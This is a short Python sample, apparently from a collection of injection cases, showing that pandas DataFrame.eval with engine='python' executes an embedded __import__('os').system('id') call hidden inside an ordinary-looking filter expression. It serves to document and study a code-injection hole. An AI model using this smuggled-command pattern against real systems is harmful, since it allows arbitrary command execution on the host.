# Source: https://github.com/malariagen/malariagen-data-python/issues/1292 (DataFrame.eval engine=python)
# Family: data-is-code
# What: DataFrame.eval with engine='python' and an __import__ call
import pandas as pd

df = pd.DataFrame({"country": ["Ghana"]})
df.eval("__import__('os').system('id') or country == 'Ghana'", engine="python")
